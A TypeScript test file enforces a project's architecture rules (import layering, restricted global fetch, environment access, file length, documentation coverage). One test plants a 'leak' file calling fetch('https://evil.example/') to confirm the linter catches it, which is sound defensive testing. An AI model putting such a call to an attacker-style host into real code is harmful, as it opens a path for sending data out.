// The guard of the rooms: the source passes, and planted violations fail; a guard that cannot fail is decoration.
import { execFile } from 'node:child_process'
import { cpSync, globSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { promisify } from 'node:util'
import { expect, test } from 'vitest'

const run = promisify(execFile)

async function cruise(root: string): Promise<{ modules: number; rules: string[] }> {
  const output = await run(
    process.execPath,
    ['node_modules/dependency-cruiser/bin/dependency-cruise.mjs', '--config', '.dependency-cruiser.mjs', '--output-type', 'json', root],
    { env: { ...process.env, CRUISED_ROOT: root }, maxBuffer: 100_000_000 },
  ).catch((error: { stdout: string; stderr: string }) => error)
  const { summary } = JSON.parse(output.stdout) as { summary: { totalCruised: number; violations: { rule: { name: string } }[] } }
  return { modules: summary.totalCruised, rules: summary.violations.map((violation) => violation.rule.name) }
}

test('the rooms import one way, and the tool has read every file', async () => {
  const files = globSync('src/**/*.{ts,tsx}').length
  const { modules, rules } = await cruise('src')
  expect(rules).toEqual([])
  expect(modules).toBeGreaterThanOrEqual(files)
})

test('planted violations are caught', async () => {
  const { rules } = await cruise('tests/architecture/planted')
  expect(new Set(rules)).toEqual(
    new Set(['domain-imports-only-openbadges', 'http-imports-only-usecases-domain-openbadges-i18n', 'pure-rooms-only-compute', 'only-safe-fetch-goes-out']),
  )
})

test('the global fetch is for browsers and tests: a planted use of it is caught', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'poincon-lint-'))
  try {
    cpSync('.oxlintrc.json', join(folder, '.oxlintrc.json'))
    mkdirSync(join(folder, 'src/usecases'), { recursive: true })
    mkdirSync(join(folder, 'src/browser'), { recursive: true })
    const planted = "export const leak = () => fetch('https://evil.example/')\n"
    writeFileSync(join(folder, 'src/usecases/leak.ts'), planted)
    writeFileSync(join(folder, 'src/browser/own.ts'), planted)
    const lint = (file: string) => run(process.execPath, [resolve('node_modules/oxlint/bin/oxlint'), '--quiet', '--deny-warnings', file], { cwd: folder }).then(() => '', (error: { stdout: string }) => error.stdout)
    expect(await lint('src/usecases/leak.ts')).toContain('no-restricted-globals')
    expect(await lint('src/browser/own.ts')).toBe('')
  } finally {
    rmSync(folder, { recursive: true })
  }
})

test('only the settings read the environment, and no file is over 500 lines', () => {
  for (const file of globSync('src/**/*.{ts,tsx}')) {
    const text = readFileSync(file, 'utf8')
    // A name in quotes is what a bundler is to put in the place of it.
    if (file !== 'src/config.ts') expect(/(?<!')process\.env/.test(text), `${file} reads the environment`).toBe(false)
    const isTable = file.startsWith('src/i18n/') || /generated/i.test(text.slice(0, 400))
    if (!isTable) expect(text.split('\n').length, `${file} is too long`).toBeLessThanOrEqual(501)
  }
})

test('every runtime package has its line in docs/dependencies.md', () => {
  const { dependencies, optionalDependencies } = JSON.parse(readFileSync('package.json', 'utf8')) as Record<string, Record<string, string>>
  const lines = readFileSync('docs/dependencies.md', 'utf8')
  const missing = Object.keys({ ...dependencies, ...optionalDependencies }).filter((name) => !lines.includes(name) && !lines.includes(name.replace(/\/.*/, '/*')))
  expect(missing).toEqual([])
})

test('every setting has its line in docs/operate/install.md, and every line its setting', () => {
  const read = new Set([...readFileSync('src/config.ts', 'utf8').matchAll(/environment\.([A-Z_]+)/g)].map(([, name]) => name))
  const [, table = ''] = readFileSync('docs/operate/install.md', 'utf8').split('## Settings')
  const documented = new Set(table.split('\n').filter((line) => line.startsWith('| `')).flatMap((line) => [...(line.split('|')[1] ?? '').matchAll(/`([A-Z_]+)`/g)].map(([, name]) => name)))
  expect([...documented].sort()).toEqual([...read].sort())
})
